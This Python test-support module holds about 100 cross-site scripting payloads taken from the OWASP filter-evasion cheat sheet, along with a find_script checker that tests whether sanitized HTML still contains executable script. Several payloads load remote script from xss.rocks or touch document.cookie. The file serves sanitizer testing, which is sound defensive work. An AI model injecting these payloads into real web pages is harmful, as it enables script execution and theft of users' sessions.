"""XSS vectors and a checker for "no executable script survived", reusable across suites.

``XSS_CASES`` is a list of ``(id, payload)``; ``XSS_VECTORS`` the payloads alone.
They follow the OWASP XSS filter-evasion cheat sheet and later browser quirks:
script/style/frame/object/embed elements, event handlers on many tags, SVG and
MathML (``xlink:href``, ``<set>``, ``<animate>``), forms (``action``,
``formaction``), ``srcdoc``, ``javascript:`` obfuscated with entities (decimal,
hex, no semicolons, ``&colon;``, ``&Tab;``), with tabs/newlines/NULs/control
characters, upper/mixed case, backtick-quoted attributes, ``data:`` and
``vbscript:`` URLs, CSS ``expression()`` and ``url(javascript:)``, meta
refresh, ``<base href>``, lazy-loading attributes, unclosed tags and
mutation-XSS shapes (``noscript``, ``math``/``style`` nesting).

:func:`find_script` returns the problems found in an HTML string (empty list =
nothing executable).  Other suites import it by adding this directory to
``sys.path``::

    sys.path.insert(0, str(Path(__file__).resolve().parent / "hostile"))
    from xss_vectors import XSS_VECTORS, find_script
"""

from __future__ import annotations

import re

import lxml.html

__all__ = ["XSS_CASES", "XSS_VECTORS", "find_script"]

_ENC_JS_DEC = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
_ENC_JS_DEC_PAD = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
_ENC_JS_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")
_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

XSS_CASES: list[tuple[str, str]] = [
    ("script-basic", "<script>alert(1)</script>"),
    ("script-src-upper", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>"),
    ("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    ("script-double-open", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script-no-close", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    ("title-breakout", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("attr-breakout", '"><script>alert(1)</script>'),
    ("malformed-img-script", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    ("img-js-quoted", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-js-unquoted", "<IMG SRC=javascript:alert('XSS')>"),
    ("img-js-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-js-backtick", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-dec-entities", f"<IMG SRC={_ENC_JS_DEC}>"),
    ("img-dec-entities-padded", f"<IMG SRC={_ENC_JS_DEC_PAD}>"),
    ("img-hex-entities", f"<IMG SRC={_ENC_JS_HEX}>"),
    ("img-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("img-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("img-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("img-encoded-cr", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    ("img-null-char", '<IMG SRC=java\x00script:alert("XSS")>'),
    ("img-leading-meta-chars", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    ("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-empty-src-handler", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("img-no-src-handler", "<IMG onmouseover=\"alert('xxs')\">"),
    ("img-onerror-fromcharcode",
     '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    ("img-onerror-entities", f'<img src=x onerror="{_ENC_JS_DEC_PAD}">'),
    ("img-onerror-unicode-escape", "<img src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\">"),
    ("img-onload-valid-src", '<img src="https://ok.example/x.png" onload="alert(1)">'),
    ("img-dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    ("img-lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    ("img-srcset-js", '<img srcset="javascript:alert(1) 1x, /ok.png 2x">'),
    ("img-lazy-data-src-js", '<img src="x.png" data-src="javascript:alert(1)">'),
    ("img-lazy-srcset-js", '<img data-srcset="javascript:alert(1) 2x">'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("img-unclosed", "<img src=x onerror=alert(1)//"),
    ("nested-unclosed", "<div><p><img src=x onerror=alert(1)"),
    ("a-onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("a-onclick-many", '<a href="#" onclick="alert(1)" onmouseover=alert(2)>x</a>'),
    ("a-js-named-colon", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
    ("a-js-dec-colon", '<a href="javascript&#58;alert(1)">x</a>'),
    ("a-js-hex-colon-unquoted", "<a href=javascript&#x3A;alert(1)>x</a>"),
    ("a-js-named-tab", '<a href="javas&Tab;cript:alert(1)">x</a>'),
    ("a-js-encoded-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-js-literal-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-js-upper", '<a href="JAVASCRIPT:alert(1)">x</a>'),
    ("a-js-control-prefix", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-js-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("a-js-entity-space", '<a href=" &#x20; javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html-b64", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    ("a-data-html-plain", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("svg-onload", "<svg/onload=alert('XSS')>"),
    ("svg-xlink-href",
     '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'),
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">X</button></form>'),
    ("input-image-src", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    ("isindex-action", '<isindex action="javascript:alert(1)" type=image>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-unclosed", "<iframe src=http://xss.rocks/scriptlet.html <"),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("frameset-onload", "<frameset onload=alert(1)>"),
    ("object-data-b64", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>'),
    ("object-scriptlet",
     '<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>'),
    ("embed-js", '<embed src="javascript:alert(1)">'),
    ("style-expression", "<div style=\"width: expression(alert('XSS'));\">x</div>"),
    ("style-url-js", "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>"),
    ("style-escaped-url",
     "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
     "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058"
     "\\0053\\0053\\0027\\0029'\\0029\">x</DIV>"),
    ("style-element-list-image",
     "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    ("style-import", "<style>@import 'http://xss.rocks/xss.css';</style>"),
    ("meta-refresh-js", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    ("meta-refresh-data",
     '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
     'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    ("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("link-stylesheet", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    ("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-weird-handler", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("table-background",
     "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>"),
    ("td-background", "<table><tr><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></tr></table>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("video-poster-js", '<video poster="javascript:alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("p-onclick", '<p onclick="alert(1)">click</p>'),
    ("blockquote-cite-js", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("custom-tag-onfocus", "<xss id=x tabindex=1 onfocus=alert(1) autofocus>x</xss>"),
    ("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    ("locator-string", "'';!--\"<XSS>=&{()}"),
    ("comment-conditional", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
]

XSS_VECTORS: list[str] = [payload for _, payload in XSS_CASES]

_BAD_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base",
     "meta", "link", "style", "frame", "frameset", "applet", "template", "noscript", "isindex",
     "textarea", "select", "body", "html", "head", "xss", "marquee", "portal", "set", "animate"}
)
_BAD_ATTRS = frozenset(
    {"style", "srcdoc", "formaction", "action", "background", "dynsrc", "lowsrc", "xlink:href",
     "data", "http-equiv", "content", "to", "values", "from", "by"}
)
_URL_ATTRS = frozenset({"href", "src", "poster", "cite", "longdesc", "srcset"})
_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|livescript|data|mocha):")
_RAW_TAG = re.compile(
    r"<\s*/?\s*(?:script|iframe|object|embed|svg|math|form|base|meta|link|style|frameset|"
    r"applet|template|noscript)\b",
    re.IGNORECASE,
)
_RAW_OPEN_TAG = re.compile(r"<[a-z][^>]*>?", re.IGNORECASE)
_QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
_RAW_HANDLER = re.compile(r"[\s/]on[a-z]+\s*=", re.IGNORECASE)
_RAW_JS = re.compile(
    r"(?:href|src|action|formaction|poster|cite|data|srcset|background|dynsrc|lowsrc)"
    r"\s*=\s*[\"'`]?[\x00-\x20]*(?:java|vb)script:",
    re.IGNORECASE,
)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def _url_is_bad(value: str) -> bool:
    squashed = _INVISIBLE.sub("", value).lower()
    if _BAD_SCHEME.match(squashed):
        return True
    return any(_BAD_SCHEME.match(_INVISIBLE.sub("", c).lower()) for c in value.split(","))


def find_script(html: str) -> list[str]:
    """Problems that could execute script in ``html`` (an empty list means none).

    Raw markup is scanned for dangerous tags; the parsed tree is checked for
    dangerous elements, event handlers, style and other executable attributes
    and for ``javascript:``/``vbscript:``/``data:`` URLs after browser-style
    normalization (entities decoded by the parser, control characters and
    whitespace removed).
    """
    problems: list[str] = []
    if not html or not html.strip():
        return problems
    for m in _RAW_TAG.finditer(html):
        problems.append(f"raw tag {m.group(0)!r}")
    for tag in _RAW_OPEN_TAG.finditer(html):
        text = tag.group(0)
        if _RAW_HANDLER.search(_QUOTED.sub("", text)):
            problems.append(f"raw event handler in {text[:60]!r}")
        if _RAW_JS.search(text):
            problems.append(f"raw javascript: URL in {text[:60]!r}")
    try:
        root = lxml.html.fragment_fromstring(html, create_parent="div")
    except Exception as exc:  # the checker must not hide a parse failure
        return [*problems, f"unparseable output: {exc}"]
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if tag in _BAD_TAGS:
            problems.append(f"element <{tag}>")
        for name, value in el.attrib.items():
            low = name.lower()
            if low.startswith("on"):
                problems.append(f"event handler {name}= on <{tag}>")
            elif low in _BAD_ATTRS or ":" in low:
                problems.append(f"attribute {name}= on <{tag}>")
            elif (low in _URL_ATTRS or low.startswith("data-")) and _url_is_bad(value):
                problems.append(f"unsafe URL in {name}= on <{tag}>: {value[:40]!r}")
    return problems
